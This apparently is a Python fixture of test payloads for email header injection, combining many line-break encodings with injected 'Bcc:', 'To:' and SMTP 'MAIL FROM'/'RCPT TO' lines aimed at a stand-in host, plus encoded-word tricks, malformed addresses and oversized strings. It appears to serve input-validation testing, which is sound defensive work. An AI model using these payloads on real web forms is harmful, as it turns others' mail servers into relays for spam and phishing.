"""What people have put into form fields to make somebody else's server write their mail."""

from itertools import product

BREAKS = [
    "\r", "\n", "\r\n", "\n\n", "\r\n\r\n", "\x85", "\u2028", "\u2029", "\x0b", "\x0c", "\x00", "\x1b[2K", "\ud800",
    "\u202e", "%0d%0a", "%0A", "\\r\\n", "&#13;&#10;", "=0D=0A", "\uff1a\uff20",
]  # fmt: skip
TAILS = [
    "Bcc: evil@evil.example",
    "To: evil@evil.example",
    "Subject: lain",
    "Content-Type: text/html; charset=utf-7",
    "\r\n.\r\nMAIL FROM:<evil@evil.example>",
    ".\r\n",
    "RCPT TO:<evil@evil.example>",
]
LINES = [prefix + broken + tail for prefix, broken, tail in product(("", "Kontak Contoh"), BREAKS, TAILS)]
ENCODED_WORDS = [
    "=?utf-8?q?=0ABcc:_evil@evil.example?=",
    "=?utf-8?q?a=0D=0ABcc:_evil@evil.example?=",
    "=?UTF-8?Q?=0a?= Bcc: evil@evil.example",
    "=?utf-8?b?CkJjYzogZXZpbEBldmlsLmV4YW1wbGU=?=",
    "=?iso-8859-1?q?=0D=0ATo:_evil@evil.example?=",
    "=?us-ascii?q?a@x.example=0ACc:_evil@evil.example?= <a@x.example>",
    "=?utf-8?q?=3F=3D?= =?utf-8?q?=0A?=",
]
ADDRESSES = [
    "a@x.example,b@x.example",
    "a@x.example, b@x.example",
    "a@x.example;b@x.example",
    "a@x.example b@x.example",
    "a@x.example\tb@x.example",
    "<a@x.example>",
    "A <a@x.example>",
    "a@x.example> NOTIFY=SUCCESS",
    "a@b@x.example",
    '"a b"@x.example',
    '"a\\\r\nBcc: evil"@x.example',
    '"a>"@x.example',
    "a@[127.0.0.1]",
    "(komentar)a@x.example",
    "undisclosed: a@x.example;",
    "a@x.example\x00",
    "á@x.example",
    "a@ünï.example",
    "a@localhost",
    "@x.example",
    "a@",
    "",
]
LONG = ["x" * 10_000, "=?" * 5_000, "Universitas " * 900, "é" * 10_000, "a" * 65 + "@x.example"]
PAYLOADS = LINES + ENCODED_WORDS + ADDRESSES + LONG
